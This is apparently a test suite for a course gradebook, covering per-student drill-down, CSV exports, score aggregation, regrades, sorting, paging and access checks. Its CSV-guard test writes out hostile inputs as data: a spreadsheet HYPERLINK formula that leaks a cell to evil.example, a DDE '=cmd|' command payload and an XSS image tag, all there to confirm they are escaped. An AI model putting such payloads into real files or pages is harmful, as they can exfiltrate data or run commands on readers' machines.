/**
 * The gradebook, the drill-down and the CSV downloads (server/teach/gradebook.ts) on a real
 * database: hand-computed cells and totals (a regrade supersedes the attempt's own result,
 * up or down; unattempted = blank, 0 in the total), the lesson filter, every sort order and
 * its ties, who is a row (students only — not instructors, removed members or another
 * course's people), the drill-down (answers verbatim, regrade history, exercise filter,
 * pages, isolation), both downloads read back with an independent RFC 4180 reader (hostile
 * text, formula guard, batches of one equal to the default batches), and the refusals.
 * gradebook-sqlite.test.ts and gradebook-postgres.test.ts run it on a temporary SQLite file
 * and a throw-away PostgreSQL server.
 *
 * Expected numbers are worked out by hand in the comments.
 */
import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { type PrismaClient } from '@/server/db/client';
import { syncCourse, type CourseData } from '@/server/db/seed';
import { submitAttempt } from '@/server/attempts';
import { staffAccess } from '@/server/teach/access';
import { csvStream } from '@/server/teach/csv';
import { attemptsCsv, gradebook, gradebookCsv, studentWork, type Gradebook, type GradebookQuery } from '@/server/teach/gradebook';
import { readCsvFile } from './gradebook-csv-reader';
import { useMigratedDatabase, type Harness } from '../support/database';
import { CUBIC_GRADIENT, CUBIC_HESSIAN, DEFINITE, exercise, testCourse } from '../support/course';

/**
 * Two graded lessons and an empty one. f = x³ + y³ + 2xy has H(1, 2) = [6 2; 2 12]
 * and ∇f(1, 2) = (7, 14).
 */
function course(slug: string): CourseData {
  return testCourse(slug, `Course ${slug}`, [
    { slug: 'hessian', title: 'The Hessian', exercises: [exercise('h-point', CUBIC_HESSIAN, { title: 'The cubic at $(1, 2)$' }), exercise('definite', DEFINITE)] },
    { slug: 'gradients', title: 'Gradients', exercises: [exercise('g-point', CUBIC_GRADIENT)] },
    { slug: 'empty', title: 'Nothing to do', exercises: [] },
  ]);
}

/** Minute `n` of a fixed morning, so times and their order are known exactly. */
const T0 = Date.UTC(2027, 0, 10, 9, 0, 0);
const t = (n: number) => new Date(T0 + n * 60_000);

/** Registers the tests; `setup` makes an empty database. */
export function gradebookSuite(name: string, setup: () => Promise<Harness>): void {
  describe(`gradebook, drill-down and CSV (${name})`, () => {
    let prisma: PrismaClient;
    useMigratedDatabase(setup, (p) => (prisma = p));

    /** A fresh copy of the course; `user` adds someone (role null = not enrolled), `attempt` and `regrade` add rows as stored by the app. */
    async function newCourse() {
      const slug = `gb-${randomUUID().slice(0, 8)}`;
      await syncCourse(prisma, course(slug));
      const id = (await prisma.course.findUniqueOrThrow({ where: { slug } })).id;
      const exercises = new Map((await prisma.exercise.findMany({ where: { courseId: id } })).map((e) => [e.key, e]));
      const user = async (name: string, email: string, role: 'student' | 'instructor' | null) => {
        const uid = `${name.replace(/\W/g, '') || 'user'}-${randomUUID()}`;
        await prisma.user.create({ data: { id: uid, name, email: `${email}-${slug}@example.com` } });
        if (role) await prisma.enrollment.create({ data: { userId: uid, courseId: id, role } });
        return uid;
      };
      const attempt = async (
        userId: string,
        key: string,
        a: { score: number; correct?: boolean; at: Date; answer?: string; diagnosisId?: string | null; feedback?: string[] },
      ) => {
        const ex = exercises.get(key)!;
        const row = await prisma.attempt.create({
          data: {
            userId,
            exerciseId: ex.id,
            seed: 42,
            specHash: ex.specHash,
            graderVersion: 1,
            answerText: a.answer ?? `answer ${a.score}`,
            score: a.score,
            correct: a.correct ?? a.score === 1,
            feedback: a.feedback ?? [],
            diagnosisId: a.diagnosisId ?? null,
            idempotencyKey: randomUUID(),
            createdAt: a.at,
          },
        });
        return row.id;
      };
      const regrade = (attemptId: string, g: { score: number; correct?: boolean; at: Date; reason: string; graderVersion?: number; diagnosisId?: string | null }) =>
        prisma.grade.create({
          data: {
            attemptId,
            graderVersion: g.graderVersion ?? 2,
            specHash: 'hash-new',
            score: g.score,
            correct: g.correct ?? g.score === 1,
            feedback: [],
            diagnosisId: g.diagnosisId ?? null,
            reason: g.reason,
            createdAt: g.at,
          },
        });
      return { slug, id, user, attempt, regrade };
    }

    /**
     * The class of most tests:
     *   Ann  h-point 0.5 (t1), regraded to 1 at t90  → best 1;  definite 0 (t2)   → total (1 + 0 + 0) / 3 = 1/3, last t2
     *   Ben  h-point 1 (t3), 0.5 (t4)                → best 1;  g-point 0.5 (t5)  → total (1 + 0 + 0.5) / 3 = 0.5, last t5
     *   cat  nothing                                  → total 0, last none
     *   Dan  h-point 1 (t6), regraded to 0.25 (t91) then 0.75 (t92) → best 0.75 (the newest regrade counts, even lower);
     *        definite 1 (t7)                          → total (0.75 + 1 + 0) / 3 = 0.58333…, last t7
     * Emails sort differently from names: cat "aa", Ben "bb", Dan "mm", Ann "zz".
     * Not rows: the instructor Ivy (has attempts), Fay (attempts, then removed from the course).
     */
    async function classroom() {
      const c = await newCourse();
      const ann = await c.user('Ann', 'zz-ann', 'student');
      const ben = await c.user('Ben', 'bb-ben', 'student');
      const cat = await c.user('cat', 'aa-cat', 'student');
      const dan = await c.user('Dan', 'mm-dan', 'student');
      const ivy = await c.user('Ivy', 'ivy', 'instructor');
      const fay = await c.user('Fay', 'fay', 'student');

      const annH = await c.attempt(ann, 'h-point', { score: 0.5, at: t(1), answer: '[3, 2; 2, 6]', diagnosisId: 'diagonal-halved', feedback: ['Entry (1, 1) is not right.'] });
      await c.regrade(annH, { score: 1, at: t(90), reason: 'fixed tolerance' });
      const annD = await c.attempt(ann, 'definite', { score: 0, at: t(2), answer: 'indefinite' });
      const benH1 = await c.attempt(ben, 'h-point', { score: 1, at: t(3) });
      const benH2 = await c.attempt(ben, 'h-point', { score: 0.5, correct: false, at: t(4) });
      const benG = await c.attempt(ben, 'g-point', { score: 0.5, correct: false, at: t(5) });
      const danH = await c.attempt(dan, 'h-point', { score: 1, at: t(6) });
      await c.regrade(danH, { score: 0.25, correct: false, at: t(91), reason: 'first look' });
      await c.regrade(danH, { score: 0.75, correct: false, at: t(92), reason: 'second look', graderVersion: 3, diagnosisId: 'diagonal-halved' });
      const danD = await c.attempt(dan, 'definite', { score: 1, at: t(7) });
      // Later than everyone's, so they would show if instructors or removed members counted.
      await c.attempt(ivy, 'h-point', { score: 1, at: t(50) });
      await c.attempt(fay, 'g-point', { score: 1, at: t(51) });
      await prisma.enrollment.delete({ where: { userId_courseId: { userId: fay, courseId: c.id } } });
      return { ...c, ann, ben, cat, dan, ivy, fay, annH, annD, benH1, benH2, benG, danH, danD };
    }

    async function book(courseId: string, query: Partial<GradebookQuery> = {}): Promise<Gradebook> {
      const b = await gradebook(prisma, courseId, { sort: 'name', dir: 'asc', ...query });
      if (b.status !== 'ok') throw new Error(b.status);
      return b;
    }

    const names = (b: Gradebook) => b.rows.map((r) => r.name);

    it('fills each cell with the best effective score, attempts used and last time, and the total', async () => {
      const c = await classroom();
      const b = await book(c.id);
      expect(b.exercises.map((e) => [e.key, e.lesson.slug])).toEqual([
        ['h-point', 'hessian'],
        ['definite', 'hessian'],
        ['g-point', 'gradients'],
      ]);
      // The title from the settings, else the kind's.
      expect(b.exercises[0].title).toBe('The cubic at $(1, 2)$');
      expect(b.groups).toEqual([
        { slug: 'hessian', title: 'The Hessian', span: 2 },
        { slug: 'gradients', title: 'Gradients', span: 1 },
      ]);
      expect(b.lessons.map((l) => l.slug)).toEqual(['hessian', 'gradients', 'empty']);
      expect(names(b)).toEqual(['Ann', 'Ben', 'cat', 'Dan']);
      const row = (uid: string) => b.rows.find((r) => r.userId === uid)!;

      expect(row(c.ann).cells).toEqual([
        { best: 1, attempts: 1, last: t(1) }, // 0.5, regraded to 1
        { best: 0, attempts: 1, last: t(2) },
        { best: null, attempts: 0, last: null },
      ]);
      expect(row(c.ann).total).toBeCloseTo(1 / 3, 12);
      expect(row(c.ann).lastActivity).toEqual(t(2)); // the regrade at t90 is not the student's activity

      expect(row(c.ben).cells).toEqual([
        { best: 1, attempts: 2, last: t(4) }, // max(1, 0.5), the later attempt's time
        { best: null, attempts: 0, last: null },
        { best: 0.5, attempts: 1, last: t(5) },
      ]);
      expect(row(c.ben).total).toBeCloseTo(0.5, 12);

      expect(row(c.cat)).toMatchObject({ total: 0, lastActivity: null });
      expect(row(c.cat).cells.every((cell) => cell.best === null && cell.attempts === 0)).toBe(true);

      expect(row(c.dan).cells[0]).toEqual({ best: 0.75, attempts: 1, last: t(6) }); // 1 → 0.25 → 0.75: the newest counts
      expect(row(c.dan).total).toBeCloseTo(1.75 / 3, 12);
      expect(row(c.dan).lastActivity).toEqual(t(7));

      // Ivy teaches, Fay was removed: neither is a row, and their attempts change nobody's cells.
      expect(b.rows.map((r) => r.userId)).not.toContain(c.ivy);
      expect(b.rows.map((r) => r.userId)).not.toContain(c.fay);
    });

    it('limits the columns, totals and activity to one lesson', async () => {
      const c = await classroom();
      const b = await book(c.id, { lesson: 'gradients' });
      expect(b.lesson).toEqual({ slug: 'gradients', title: 'Gradients' });
      expect(b.exercises.map((e) => e.key)).toEqual(['g-point']);
      expect(b.groups).toEqual([{ slug: 'gradients', title: 'Gradients', span: 1 }]);
      // Only Ben tried g-point (0.5 at t5); everyone else is 0 with no activity in this lesson.
      expect(b.rows.map((r) => [r.name, r.total, r.lastActivity])).toEqual([
        ['Ann', 0, null],
        ['Ben', 0.5, t(5)],
        ['cat', 0, null],
        ['Dan', 0, null],
      ]);

      // Hessian lesson: Ann (1 + 0) / 2 = 0.5, Ben (1 + 0) / 2 = 0.5, Dan (0.75 + 1) / 2 = 0.875.
      const h = await book(c.id, { lesson: 'hessian', sort: 'total', dir: 'desc' });
      expect(h.rows.map((r) => [r.name, r.total])).toEqual([
        ['Dan', 0.875],
        ['Ann', 0.5], // ties go by name
        ['Ben', 0.5],
        ['cat', 0],
      ]);

      // A lesson without exercises: no columns, no total.
      const empty = await book(c.id, { lesson: 'empty' });
      expect(empty.exercises).toEqual([]);
      expect(empty.groups).toEqual([]);
      expect(empty.rows.map((r) => r.total)).toEqual([null, null, null, null]);

      expect(await gradebook(prisma, c.id, { lesson: 'nope', sort: 'name', dir: 'asc' })).toEqual({
        status: 'lesson-not-found',
        lessons: [
          { slug: 'hessian', title: 'The Hessian' },
          { slug: 'gradients', title: 'Gradients' },
          { slug: 'empty', title: 'Nothing to do' },
        ],
      });
    });

    it('sorts by name, email, total and last activity, both ways, with no activity last', async () => {
      const c = await classroom();
      // Names ignore case: "cat" comes between Ben and Dan (a byte order would put it last).
      expect(names(await book(c.id, { sort: 'name', dir: 'asc' }))).toEqual(['Ann', 'Ben', 'cat', 'Dan']);
      expect(names(await book(c.id, { sort: 'name', dir: 'desc' }))).toEqual(['Dan', 'cat', 'Ben', 'Ann']);
      // aa-cat, bb-ben, mm-dan, zz-ann.
      expect(names(await book(c.id, { sort: 'email', dir: 'asc' }))).toEqual(['cat', 'Ben', 'Dan', 'Ann']);
      expect(names(await book(c.id, { sort: 'email', dir: 'desc' }))).toEqual(['Ann', 'Dan', 'Ben', 'cat']);
      // 0.583 (Dan) > 0.5 (Ben) > 0.333 (Ann) > 0 (cat).
      expect(names(await book(c.id, { sort: 'total', dir: 'desc' }))).toEqual(['Dan', 'Ben', 'Ann', 'cat']);
      expect(names(await book(c.id, { sort: 'total', dir: 'asc' }))).toEqual(['cat', 'Ann', 'Ben', 'Dan']);
      // Last attempts t7 (Dan), t5 (Ben), t2 (Ann); cat has none and stays last both ways.
      expect(names(await book(c.id, { sort: 'activity', dir: 'desc' }))).toEqual(['Dan', 'Ben', 'Ann', 'cat']);
      expect(names(await book(c.id, { sort: 'activity', dir: 'asc' }))).toEqual(['Ann', 'Ben', 'Dan', 'cat']);
    });

    it('cuts the sorted class into pages', async () => {
      const c = await classroom();
      const page = async (n: number | undefined) => {
        const b = await gradebook(prisma, c.id, { sort: 'total', dir: 'desc', page: n }, 3);
        if (b.status !== 'ok') throw new Error(b.status);
        return b;
      };
      // Whole class by total, highest first: Dan, Ben, Ann, cat; three a page.
      expect(await page(undefined)).toMatchObject({ page: 1, pages: 2, offset: 0, students: 4 });
      expect(names(await page(1))).toEqual(['Dan', 'Ben', 'Ann']);
      expect(names(await page(2))).toEqual(['cat']);
      expect(await page(2)).toMatchObject({ page: 2, pages: 2, offset: 3, students: 4 });
      // A page past the end shows the last one.
      expect(await page(99)).toMatchObject({ page: 2, offset: 3 });
      // By name, only the page's cells are computed: page 2 of Ann, Ben, cat | Dan is Dan, with his own numbers.
      const byName = await gradebook(prisma, c.id, { sort: 'name', dir: 'asc', page: 2 }, 3);
      if (byName.status !== 'ok') throw new Error(byName.status);
      expect(names(byName)).toEqual(['Dan']);
      expect(byName.rows[0].cells.map((cell) => cell.best)).toEqual([0.75, 1, null]);
      expect(byName.rows[0].total).toBeCloseTo(1.75 / 3, 12);
      expect(byName.rows[0].lastActivity).toEqual(t(7));
      // An empty class still has one (empty) page.
      const empty = await newCourse();
      expect(await book(empty.id)).toMatchObject({ page: 1, pages: 1, offset: 0, students: 0, rows: [] });
    });

    it('takes the best over never-regraded attempts and the newest regrades of the others', async () => {
      const c = await newCourse();
      const hal = await c.user('Hal', 'hal', 'student');
      // 0.8 never regraded; 1 regraded down to 0.2 → best max(0.8, 0.2) = 0.8 (the regraded 1 no longer counts).
      await c.attempt(hal, 'h-point', { score: 0.8, correct: false, at: t(1) });
      const high = await c.attempt(hal, 'h-point', { score: 1, at: t(2) });
      await c.regrade(high, { score: 0.2, correct: false, at: t(3), reason: 'stricter' });
      // definite: 0.1 regraded up to 0.6, and 0.3 never regraded → 0.6.
      const low = await c.attempt(hal, 'definite', { score: 0.1, correct: false, at: t(4) });
      await c.regrade(low, { score: 0.6, correct: false, at: t(5), reason: 'kinder' });
      await c.attempt(hal, 'definite', { score: 0.3, correct: false, at: t(6) });
      const [row] = (await book(c.id)).rows;
      expect(row.cells.map((cell) => [cell.best, cell.attempts])).toEqual([
        [0.8, 2],
        [0.6, 2],
        [null, 0],
      ]);
      // (0.8 + 0.6 + 0) / 3 = 1.4 / 3.
      expect(row.total).toBeCloseTo(1.4 / 3, 12);
    });

    it('says "no students" by having no rows, and counts a real graded submission', async () => {
      const c = await newCourse();
      const empty = await book(c.id);
      expect(empty.rows).toEqual([]);
      expect(empty.exercises).toHaveLength(3);

      // Through the students' own submit path: halving the diagonal is 2 of 4 entries → 0.5.
      const gus = await c.user('Gus', 'gus', 'student');
      const out = await submitAttempt(prisma, { userId: gus, course: c.slug, exercise: 'h-point', answer: '[3, 2; 2, 6]', idempotencyKey: randomUUID() });
      expect(out.status).toBe('graded');
      const b = await book(c.id);
      expect(b.rows).toHaveLength(1);
      expect(b.rows[0].cells[0]).toMatchObject({ best: 0.5, attempts: 1 });
      expect(b.rows[0].total).toBeCloseTo(0.5 / 3, 12);
    });

    it('drills down into one student: newest first, answers verbatim, results and regrade history', async () => {
      const c = await classroom();
      const work = await studentWork(prisma, c.id, c.ann);
      if (work.status !== 'ok') throw new Error(work.status);
      expect(work.student).toMatchObject({ id: c.ann, name: 'Ann', role: 'student' });
      // Ann: 2 of 3 exercises tried, 2 attempts, total 1/3 as in the gradebook.
      expect(work.summary).toMatchObject({ attempted: 2, exercises: 3, attempts: 2 });
      expect(work.summary.total).toBeCloseTo(1 / 3, 12);
      expect(work.exercises.map((e) => e.key)).toEqual(['h-point', 'definite', 'g-point']);
      expect(work.attempts.map((a) => a.id)).toEqual([c.annD, c.annH]); // t2, then t1
      expect(work.next).toBeNull();

      const h = work.attempts[1];
      expect(h).toMatchObject({ answerText: '[3, 2; 2, 6]', seed: 42, createdAt: t(1), exercise: { key: 'h-point', kind: 'hessian', lesson: { slug: 'hessian' } } });
      expect(h.original).toMatchObject({ score: 0.5, correct: false, verdict: 'partly', diagnosisId: 'diagonal-halved', feedback: ['Entry (1, 1) is not right.'], graderVersion: 1 });
      expect(h.original.diagnosis).toMatch(/half the right ones/); // the kind's sentence for the id
      expect(h.regrades).toHaveLength(1);
      expect(h.regrades[0]).toMatchObject({ score: 1, correct: true, verdict: 'correct', reason: 'fixed tolerance', graderVersion: 2, at: t(90), diagnosis: null });
      expect(h.result).toEqual(h.regrades[0]);
      expect(work.attempts[0]).toMatchObject({ answerText: 'indefinite', regrades: [], result: { score: 0, verdict: 'wrong' } });

      // Dan's two regrades, oldest first; the newest one counts.
      const dan = await studentWork(prisma, c.id, c.dan, { exercise: 'h-point' });
      if (dan.status !== 'ok') throw new Error(dan.status);
      expect(dan.exercise).toBe('h-point');
      const d = dan.attempts[0];
      expect([d.original.score, ...d.regrades.map((g) => g.score)]).toEqual([1, 0.25, 0.75]);
      expect(d.regrades.map((g) => g.reason)).toEqual(['first look', 'second look']);
      expect(d.result).toMatchObject({ score: 0.75, verdict: 'partly', graderVersion: 3, diagnosisId: 'diagonal-halved' });
    });

    it('keeps the answer exactly as typed, hostile text included', async () => {
      const c = await newCourse();
      const eve = await c.user('Eve', 'eve', 'student');
      const typed = '  [6, 2;\n\t2, 12]  <img src=x onerror=alert(1)> ';
      await c.attempt(eve, 'h-point', { score: 0, at: t(1), answer: typed });
      const work = await studentWork(prisma, c.id, eve);
      if (work.status !== 'ok') throw new Error(work.status);
      expect(work.attempts[0].answerText).toBe(typed);
    });

    it('filters by exercise and pages back through the attempts', async () => {
      const c = await classroom();
      const only = await studentWork(prisma, c.id, c.ben, { exercise: 'h-point' });
      if (only.status !== 'ok') throw new Error(only.status);
      expect(only.attempts.map((a) => a.id)).toEqual([c.benH2, c.benH1]);

      // Ben's attempts newest first: g-point (t5), h-point (t4), h-point (t3); one a page.
      const seen: string[] = [];
      let before: string | undefined;
      for (let page = 0; page < 5; page++) {
        const w = await studentWork(prisma, c.id, c.ben, { limit: 1, before });
        if (w.status !== 'ok') throw new Error(w.status);
        seen.push(...w.attempts.map((a) => a.id));
        if (!w.next) break;
        before = w.next;
      }
      expect(seen).toEqual([c.benG, c.benH2, c.benH1]);

      // Another student's attempt is no cursor for Ben: he starts from his newest.
      const foreign = await studentWork(prisma, c.id, c.ben, { limit: 1, before: c.annH });
      if (foreign.status !== 'ok') throw new Error(foreign.status);
      expect(foreign.attempts.map((a) => a.id)).toEqual([c.benG]);

      // cat has nothing yet.
      const cat = await studentWork(prisma, c.id, c.cat);
      expect(cat).toMatchObject({ status: 'ok', attempts: [], next: null, summary: { attempted: 0, attempts: 0, total: 0 } });
    });

    it('shows only members of this course: others, removed, unknown users and unknown exercises are not found', async () => {
      const c = await classroom();
      const other = await newCourse();
      const olga = await other.user('Olga', 'olga', 'student');
      await other.attempt(olga, 'h-point', { score: 1, at: t(1) });

      expect(await studentWork(prisma, c.id, olga)).toEqual({ status: 'not-found' });
      expect(await studentWork(prisma, c.id, c.fay)).toEqual({ status: 'not-found' }); // removed, attempts kept
      expect(await studentWork(prisma, c.id, 'no-such-user')).toEqual({ status: 'not-found' });
      expect(await studentWork(prisma, c.id, c.ann, { exercise: 'no-such-exercise' })).toEqual({ status: 'not-found' });
      // Ann through the other course's id: not a member there.
      expect(await studentWork(prisma, other.id, c.ann)).toEqual({ status: 'not-found' });
      // Olga's attempts are in no cell of this course.
      expect((await book(c.id)).rows.map((r) => r.userId)).not.toContain(olga);

      // An instructor of the course can be shown (their own tries on the lesson pages).
      const ivy = await studentWork(prisma, c.id, c.ivy);
      expect(ivy).toMatchObject({ status: 'ok', student: { role: 'instructor' }, summary: { attempts: 1 } });
    });

    /** A download read to the end through the same stream the route handler sends. */
    async function download(chunks: AsyncGenerator<string>): Promise<string[][]> {
      return readCsvFile(new Uint8Array(await new Response(csvStream(chunks)).arrayBuffer()));
    }

    it('writes gradebook.csv: one line per student, best scores, blank when unattempted, the total', async () => {
      const c = await classroom();
      const rows = await download(gradebookCsv(prisma, c.id));
      expect(rows[0]).toEqual(['name', 'email', 'h-point', 'definite', 'g-point', 'total']);
      expect(rows).toHaveLength(1 + 4); // four students; not Ivy (instructor) nor Fay (removed)
      const byName = new Map(rows.slice(1).map((r) => [r[0], r]));
      // Ann 1, 0, blank; total 1/3 → 0.3333. Ben 1, blank, 0.5; total 0.5. Dan 0.75, 1, blank; total 0.5833.
      expect(byName.get('Ann')).toEqual(['Ann', `zz-ann-${c.slug}@example.com`, '1', '0', '', '0.3333']);
      expect(byName.get('Ben')).toEqual(['Ben', `bb-ben-${c.slug}@example.com`, '1', '', '0.5', '0.5']);
      expect(byName.get('cat')).toEqual(['cat', `aa-cat-${c.slug}@example.com`, '', '', '', '0']);
      expect(byName.get('Dan')).toEqual(['Dan', `mm-dan-${c.slug}@example.com`, '0.75', '1', '', '0.5833']);
      // Ordered by name as the database sorts; these three sort the same in every collation.
      expect(rows.slice(1).map((r) => r[0]).filter((n) => n !== 'cat')).toEqual(['Ann', 'Ben', 'Dan']);

      // Batches of one student give the same file.
      expect(await download(gradebookCsv(prisma, c.id, { batchSize: 1 }))).toEqual(rows);
      expect(await download(gradebookCsv(prisma, c.id, { batchSize: 3 }))).toEqual(rows);
    });

    it('writes attempts.csv: one line per attempt with the result that counts, exercise by exercise, oldest first', async () => {
      const c = await classroom();
      const rows = await download(attemptsCsv(prisma, c.id));
      expect(rows[0]).toEqual(['time', 'email', 'lesson', 'exercise', 'kind', 'seed', 'answer', 'score', 'correct', 'diagnosis', 'grader_version', 'regraded']);
      const email = (who: string) => `${who}-${c.slug}@example.com`;
      // h-point: Ann t1, Ben t3, Ben t4, Dan t6; definite: Ann t2, Dan t7; g-point: Ben t5. Not Ivy's nor Fay's.
      expect(rows.slice(1).map((r) => [r[3], r[1], r[0]])).toEqual([
        ['h-point', email('zz-ann'), t(1).toISOString()],
        ['h-point', email('bb-ben'), t(3).toISOString()],
        ['h-point', email('bb-ben'), t(4).toISOString()],
        ['h-point', email('mm-dan'), t(6).toISOString()],
        ['definite', email('zz-ann'), t(2).toISOString()],
        ['definite', email('mm-dan'), t(7).toISOString()],
        ['g-point', email('bb-ben'), t(5).toISOString()],
      ]);
      // Ann's h-point: own 0.5 (diagonal-halved, grader 1), regraded to 1 by grader 2 with no diagnosis.
      expect(rows[1]).toEqual([t(1).toISOString(), email('zz-ann'), 'hessian', 'h-point', 'hessian', '42', '[3, 2; 2, 6]', '1', 'true', '', '2', 'yes']);
      // Dan's h-point: the newest regrade (0.75, grader 3, diagonal-halved) counts.
      expect(rows[4]).toEqual([t(6).toISOString(), email('mm-dan'), 'hessian', 'h-point', 'hessian', '42', 'answer 1', '0.75', 'false', 'diagonal-halved', '3', 'yes']);
      // Ben's second h-point try: never regraded.
      expect(rows[3]).toEqual([t(4).toISOString(), email('bb-ben'), 'hessian', 'h-point', 'hessian', '42', 'answer 0.5', '0.5', 'false', '', '1', 'no']);
      expect(rows[7]).toEqual([t(5).toISOString(), email('bb-ben'), 'gradients', 'g-point', 'gradient', '42', 'answer 0.5', '0.5', 'false', '', '1', 'no']);

      expect(await download(attemptsCsv(prisma, c.id, { batchSize: 1 }))).toEqual(rows);
      expect(await download(attemptsCsv(prisma, c.id, { batchSize: 2 }))).toEqual(rows);
    });

    it('quotes and guards hostile text in both files, and keeps HTML and Unicode verbatim', async () => {
      const c = await newCourse();
      const eve = await c.user('Eve "Evil", Jr.', 'eve', 'student');
      const mal = await c.user("=cmd|' /C calc'!A0", 'mal', 'student');
      const answers = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        '<img src=x onerror=alert(1)>',
        'line 1\nline 2, "quoted"',
        'ünïcödé ∇²f = λ₁ √2 — ok',
        '+1',
        '-2',
        '@SUM(A1:A2)',
        '\ttabbed',
        '\rcarriage',
        'crlf\r\ninside',
      ];
      // All at the same instant: the keyset must still visit each exactly once (ties go by id).
      for (const answer of answers) await c.attempt(eve, 'h-point', { score: 0, at: t(5), answer });
      await c.attempt(mal, 'definite', { score: 1, at: t(6), answer: 'positive definite' });

      const att = await download(attemptsCsv(prisma, c.id, { batchSize: 3 }));
      const eveRows = att.slice(1).filter((r) => r[1] === `eve-${c.slug}@example.com`);
      expect(eveRows.map((r) => r[6]).sort()).toEqual(
        [
          `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
          '<img src=x onerror=alert(1)>',
          'line 1\nline 2, "quoted"',
          'ünïcödé ∇²f = λ₁ √2 — ok',
          "'+1",
          "'-2",
          "'@SUM(A1:A2)",
          "'\ttabbed",
          "'\rcarriage",
          'crlf\r\ninside',
        ].sort(),
      );
      expect(att).toHaveLength(1 + answers.length + 1);

      const gb = await download(gradebookCsv(prisma, c.id));
      const names = gb.slice(1).map((r) => r[0]);
      expect(names).toContain('Eve "Evil", Jr.');
      expect(names).toContain(`'=cmd|' /C calc'!A0`);
    });

    it('refuses students, signed-out users and other courses\' instructors before any data is read', async () => {
      const c = await classroom();
      const other = await newCourse();
      const outsider = await other.user('Oscar', 'oscar', 'instructor');
      const teacher = await c.user('Tess', 'tess', 'instructor');

      expect(await staffAccess(prisma, { id: c.ann, role: 'student' }, c.slug)).toEqual({ status: 'forbidden' });
      expect(await staffAccess(prisma, null, c.slug)).toEqual({ status: 'signed-out' });
      expect(await staffAccess(prisma, { id: outsider, role: 'instructor' }, c.slug)).toEqual({ status: 'forbidden' });
      const mine = await staffAccess(prisma, { id: teacher, role: 'instructor' }, c.slug);
      expect(mine).toEqual({ status: 'ok', course: { id: c.id, slug: c.slug, title: `Course ${c.slug}` } });

      // The outsider's own course id reaches none of this course's people or attempts.
      const theirs = await staffAccess(prisma, { id: outsider, role: 'instructor' }, other.slug);
      if (theirs.status !== 'ok') throw new Error(theirs.status);
      expect((await book(theirs.course.id)).rows).toEqual([]);
      expect(await studentWork(prisma, theirs.course.id, c.ann)).toEqual({ status: 'not-found' });
      expect(await download(gradebookCsv(prisma, theirs.course.id))).toEqual([['name', 'email', 'h-point', 'definite', 'g-point', 'total']]);
      expect(await download(attemptsCsv(prisma, theirs.course.id))).toHaveLength(1); // the header only
    });
  });
}
